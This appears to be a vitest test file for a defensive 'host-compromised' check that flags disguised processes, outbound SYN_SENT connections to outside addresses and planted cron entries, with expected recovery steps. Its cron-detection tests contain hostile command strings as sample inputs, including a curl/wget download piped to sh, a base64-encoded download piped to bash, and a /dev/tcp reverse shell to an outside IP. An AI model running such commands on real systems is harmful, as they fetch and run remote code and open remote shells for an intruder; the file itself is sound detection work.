import { describe, expect, it } from 'vitest';
import { cronSign, isPublic, posesWithSocket } from '../../checks/network/host-compromised/signs.js';
import { testCheck } from '../support/check-tester.js';

const VKS_FIX = ['list-connections', 'list-processes', 'check-crontab', 'capture-traffic', 'change-password', 'remove-malicious-process', 'clean-crontab', 'reinstall-vks'];
const VMS_FIX = VKS_FIX.slice(0, -1);

describe('host-compromised: signs', () => {
  it('tells outside addresses, disguised names and planted cron commands', () => {
    expect(['103.240.141.54', '122.225.207.198', '2001:db8::1'].map(isPublic)).toEqual([true, true, true]);
    expect(['172.16.51.6', '10.1.2.3', '192.168.0.1', '100.64.0.1', '127.0.0.1', 'fd00::1', 'fe80::1', '224.0.0.5'].map(isPublic)).toEqual([false, false, false, false, false, false, false, false]);
    expect(['ls', 'sh', '5', '52034'].map(posesWithSocket)).toEqual([true, true, true, true]);
    expect(['sshd', 'kvm', 'java', 'libvirtd'].map(posesWithSocket)).toEqual([false, false, false, false]);
    expect(cronSign('/tmp/.ICE-unix/ls >/dev/null 2>&1')).toBe('scratch');
    expect(cronSign('(curl -fsSL http://x/lr.sh||wget -q -O- http://x/lr.sh)|sh')).toBe('download');
    expect(cronSign('echo Y3VybCBodHRwOi8veA== | base64 -d | bash')).toBe('encoded');
    expect(cronSign('/usr/lib/.libsys/5')).toBe('hidden');
    expect(cronSign('bash -i >& /dev/tcp/103.240.141.54/3508 0>&1')).toBe('devtcp');
    expect(cronSign('test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )')).toBeUndefined();
    expect(cronSign('command -v debian-sa1 > /dev/null && debian-sa1 1 1')).toBeUndefined();
  });
});

testCheck('host-compromised', {
  ok: [
    { hosts: ['@vks-healthy'], message: 'ok', values: { sockets: 13, tasks: 7, cron: /the 13 entries of \/etc\/crontab are the platform's own \(and \/etc\/cron.d: e2scrub_all, sysstat\)/ } },
    { hosts: ['@vms-healthy'], message: 'ok', values: { cron: /none of the 4 entries of \/etc\/crontab/ } },
  ],
  cases: [
    {
      name: 'the guide\'s VKS: names the process posing as ls in SYN_SENT, its deleted program, the "5" and the planted cron line',
      hosts: ['guide-vks/cvknode11'],
      status: 'fail',
      message: 'disguisedSocket',
      values: { pid: 48941, name: 'ls', count: 1, peers: '103.240.141.54:3508 (SYN_SENT)', exe: /program \/tmp\/\.ICE-unix\/ls was deleted/ },
      nested: ['exeDeleted', 'peer', 'commandLine'],
      steps: VKS_FIX,
      evidence: [
        'cvknode11: netstat -atunp', 'cvknode11: ps -e -o pid,ppid,stat,wchan:32,etimes,args', 'cvknode11: readlink -- /proc/48941/exe',
        'cvknode11: netstat -atunp', 'cvknode11: ps -e -o pid,ppid,stat,wchan:32,etimes,args', 'cvknode11: readlink -- /proc/52034/exe',
        'cvknode11: cat /etc/crontab',
      ],
      filled: true,
      then: (r) => {
        expect(r.evidence[0]!.excerpt).toContain('SYN_SENT    48941/ls');
        expect(r.evidence[6]!.excerpt).toBe('*/3 * * * * root    /tmp/.ICE-unix/ls >/dev/null 2>&1');
        expect(r.recovery.find((s) => s.id === 'remove-malicious-process')!.text.en).toContain('/proc/48941/exe');
        const data = r.data as { disguised: { pid: number }[]; cron: { beyondBaseline: number[] } };
        expect(data.disguised.map((d) => d.pid).sort()).toEqual([48941, 52034]);
        // The planted line is reported as malicious, not again as merely added.
        expect(data.cron.beyondBaseline).toEqual([]);
      },
    },
    {
      name: 'a SYN flood to outside addresses from a VMS (no reinstall of a VKS in the plan)',
      hosts: ['syn-flood/cvmnode01'],
      status: 'fail',
      message: 'synFlood',
      values: { count: 12, distinct: 12, procs: '30345/kdevtmpfsi' },
      steps: VMS_FIX,
      filled: true,
    },
    {
      name: 'a few SYN_SENT to outside addresses warn; ss is read where netstat is missing',
      hosts: ['few-syn-ss/cvknode11'],
      status: 'warn',
      message: 'outsideSynSent',
      values: { count: 3, procs: '9120/http' },
      steps: ['list-connections', 'capture-traffic'],
      evidence: ['cvknode11: ss -tunap', 'cvknode11: ps -e -o pid,ppid,stat,wchan:32,etimes,args'],
      filled: true,
    },
    {
      name: 'a busy "ifconfig" whose program was deleted from /dev/shm',
      hosts: ['busy-deleted/cvknode11'],
      status: 'fail',
      message: 'disguisedBusy',
      values: { pid: 27731, name: 'ifconfig', busy: 'uses 387.5% CPU' },
      steps: VKS_FIX,
      evidence: ['cvknode11: top -b -n 2 -d 1', 'cvknode11: ps -e -o pid,ppid,stat,wchan:32,etimes,args', 'cvknode11: readlink -- /proc/27731/exe'],
      filled: true,
    },
    {
      name: 'a "date" alive for a day, its program in place: a warning',
      hosts: ['long-running/cvmnode01'],
      status: 'warn',
      message: 'disguisedBusy',
      values: { pid: 4410, busy: 'has run for 24 h', exe: '; its program is /bin/date' },
      steps: ['list-processes', 'list-connections'],
      filled: true,
    },
    {
      name: 'an /etc/crontab entry beyond the platform\'s own on a VKS',
      hosts: ['cron-added/cvknode11'],
      status: 'warn',
      message: 'cronPlanted',
      values: { count: 1, entries: 'line 25: /opt/backup/nightly_rsync.sh' },
      steps: ['check-crontab', 'list-processes', 'list-connections'],
    },
    {
      name: 'a cron.d file that pipes a download into sh',
      hosts: ['cron-d-download/cvmnode01'],
      status: 'fail',
      message: 'cronMalicious',
      values: { file: '/etc/cron.d/apache2-update', line: 1, user: 'root' },
      nested: ['whyDownload'],
      steps: ['check-crontab', 'list-processes', 'list-connections', 'change-password', 'clean-crontab'],
      evidence: ['cvmnode01: cat -- /etc/cron.d/apache2-update'],
    },
    {
      name: 'sockets that cannot be read are unknown, not ok',
      hosts: ['sockets-unread/cvknode11'],
      status: 'unknown',
      message: 'socketsUnread',
      steps: ['list-connections'],
    },
  ],
});
